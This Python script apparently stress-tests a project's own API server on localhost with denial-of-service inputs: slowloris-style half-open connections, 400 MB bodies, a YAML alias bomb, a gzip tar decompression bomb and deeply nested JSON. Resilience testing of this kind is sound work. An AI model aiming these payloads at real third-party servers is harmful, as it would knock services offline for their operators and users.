"""What strangers do to a master, all at once: `attackers.py PORT SECONDS KIND`; prints counts."""

import gzip
import os
import selectors
import socket
import sys
import tarfile
import threading
import time
from contextlib import suppress

MIB = 1024 * 1024
NUM_HALF_OPEN = 1100
HALF = (
    b"",
    b"POST /api/v1/login HTTP/1.1\r\nHost: localhost\r\nX-Half: ",
    b"POST /api/v1/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    b"Content-Length: 10000\r\nExpect: 100-continue\r\n\r\n",
)
YAML_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join(['*' + before] * 9)}]\n"
    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)


def tar_bomb() -> bytes:
    """Return an archive of 2 MB that unpacks to 2.1 GB."""
    member = tarfile.TarInfo("large")
    member.size = 2100 * MIB
    return gzip.compress(member.tobuf()) + gzip.compress(bytes(MIB)) * 2100


class HalfOpen:
    """Connections that never end a request; for one that is closed, a new one."""

    def __init__(self, port: int) -> None:
        self._port = port
        self._selector = selectors.DefaultSelector()
        self.num_opened = 0

    def run(self, until: float) -> None:
        for _ in range(NUM_HALF_OPEN):
            self._open()
        while time.monotonic() < until:
            for key, _ in self._selector.select(0.1):
                end: socket.socket = key.fileobj  # type: ignore[assignment]
                with suppress(OSError):
                    if end.recv(4096):
                        continue
                self._selector.unregister(end)
                end.close()
                self._open()

    def _open(self) -> None:
        end = socket.create_connection(("127.0.0.1", self._port), timeout=60)
        with suppress(OSError):
            end.sendall(HALF[self.num_opened % len(HALF)])
        self._selector.register(end, selectors.EVENT_READ)
        self.num_opened += 1


def post(port: int, method: str, path: str, pieces: list[bytes], length: int | None) -> bytes:
    """Send a request whose body comes in pieces, as long as it is taken; return the answer."""
    answer = b""
    with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=60) as end:
        framing = "Transfer-Encoding: chunked" if length is None else f"Content-Length: {length}"
        head = f"{method} /api/v1{path} HTTP/1.1\r\nHost: localhost\r\n{framing}\r\n"
        end.sendall((head + "Content-Type: application/json\r\n\r\n").encode())
        for piece in pieces:
            end.sendall(b"%x\r\n" % len(piece) + piece + b"\r\n" if length is None else piece)
        if length is None:
            end.sendall(b"0\r\n\r\n")
        # Half of them go away without a look at the answer.
        if int(time.time() * 1000) % 2:
            answer = end.recv(20)
    return answer


def send_bodies(port: int, until: float) -> int:
    """Send bodies of 400 MB to where strangers may send something, declared and in chunks."""
    number, piece = 0, b"x" * MIB
    while time.monotonic() < until:
        post(port, "POST", "/login", [piece] * 400, 400 * MIB if number % 2 else None)
        number += 1
    return number


def send_bombs(port: int, until: float) -> int:
    """Send bombs of YAML and of tar."""
    number, bomb = 0, tar_bomb()
    text = b'{"text": "' + YAML_BOMB.replace("\n", "\\n").encode() + b'"}'
    while time.monotonic() < until:
        post(port, "PUT", "/contexts/" + "0" * 64, [bomb], len(bomb))
        post(port, "POST", "/check-config", [text], len(text))
        post(port, "POST", "/login", [b'{"password": ' + b"[" * 16_000], 16_013)
        number += 3
    return number


def main() -> None:
    """Run one kind of attack; on a machine of its own it would take no time of the master's."""
    os.nice(19)
    port, until, kind = int(sys.argv[1]), time.monotonic() + float(sys.argv[2]), sys.argv[3]
    if kind == "half":
        half = HalfOpen(port)
        half.run(until)
        print(half.num_opened)
        return
    send = send_bodies if kind == "bodies" else send_bombs
    counts: list[int] = []
    threads = [threading.Thread(target=lambda: counts.append(send(port, until))) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(sum(counts))


if __name__ == "__main__":
    main()
